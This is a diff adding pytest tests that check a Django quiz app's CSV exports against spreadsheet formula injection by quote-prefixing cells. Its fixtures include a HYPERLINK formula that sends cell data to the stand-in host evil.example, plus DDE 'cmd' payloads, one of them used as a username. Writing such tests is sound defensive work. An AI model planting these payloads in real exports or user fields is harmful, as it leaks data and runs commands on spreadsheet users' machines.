@@ -1,0 +1,85 @@
+"""CSV exports open safely in a spreadsheet: no cell from users or authors runs as a formula."""
+
+import csv
+import io
+
+import pytest
+from django.contrib.auth import get_user_model
+from django.urls import reverse
+
+from quizzes.exports import neutralise
+from quizzes.models import Learner
+from tests.factories import load, minimal_tree, topic_text
+from tests.quizzes.results_data import answer, build
+
+pytestmark = pytest.mark.django_db
+
+PROMPT = '=HYPERLINK("https://evil.example/?"&A1, "Open")'
+RIGHT = "+cmd|' /C calc'!A0"
+WRONG = "@SUM(1+1)*cmd|' /C calc'!A0"
+HOSTILE = f"""
+### {PROMPT}
+<!-- id: hostile -->
+
+- [x] {RIGHT}
+- [ ] {WRONG}
+- [ ] -2+3
+
+Why.
+"""
+
+
+@pytest.fixture
+def staff_client(client):
+    client.force_login(get_user_model().objects.create_user("staff", is_staff=True))
+    return client
+
+
+@pytest.fixture
+def hostile(tmp_path):
+    """A question and a learner whose texts are spreadsheet formulas, with one answer each."""
+    load(minimal_tree(tmp_path / "content", {"01-a.md": topic_text(questions=HOSTILE)}))
+    # Django's username validator allows @, + and -: a learner can sign up as a formula.
+    user = get_user_model().objects.create_user("-1+cmd|' /C calc'!A0")
+    answer(Learner.objects.create(user=user), "hostile", WRONG, first=True)
+    answer(Learner.objects.create(), "hostile", RIGHT, first=True)
+
+
+def read_csv(client, name: str) -> list[dict[str, str]]:
+    response = client.get(reverse(f"results:{name}"))
+    text = b"".join(response.streaming_content).decode()
+    return list(csv.DictReader(io.StringIO(text)))
+
+
+def test_attempts_csv_neutralises_usernames_and_picked_choices(staff_client, hostile):
+    """A username or choice text starting with - + @ is prefixed with a quote."""
+    rows = read_csv(staff_client, "attempts-csv")
+    assert [(r["username"], r["picked"]) for r in rows] == [
+        ("'-1+cmd|' /C calc'!A0", "'" + WRONG),
+        ("", "'" + RIGHT),
+    ]
+
+
+def test_questions_csv_neutralises_prompts_and_pick_rates(staff_client, hostile):
+    """A prompt starting with = and choice texts starting with + are prefixed with a quote."""
+    (row,) = read_csv(staff_client, "questions-csv")
+    assert row["prompt"] == "'" + PROMPT
+    assert row["pick_rates"].startswith(f"'{RIGHT}=0.500 | ")
+
+
+def test_computed_numbers_stay_numbers(staff_client, tmp_path):
+    """A negative discrimination is written as the number -1.000, not as quoted text."""
+    build(tmp_path)
+    rows = {r["question"]: r for r in read_csv(staff_client, "questions-csv")}
+    assert (rows["q2"]["discrimination"], rows["q2"]["facility"]) == ("-1.000", "0.400")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\0"])
+def test_every_formula_start_is_neutralised(start):
+    """OWASP's list of formula starts (and ASVS's NUL) all get the quote prefix."""
+    assert neutralise(f"{start}1+1") == f"'{start}1+1"
+
+
+def test_plain_text_and_numbers_are_left_alone():
+    """Ordinary text, empty cells and numbers pass through unchanged."""
+    assert [neutralise(v) for v in ("alice", "", "a=b", 3, -2)] == ["alice", "", "a=b", 3, -2]
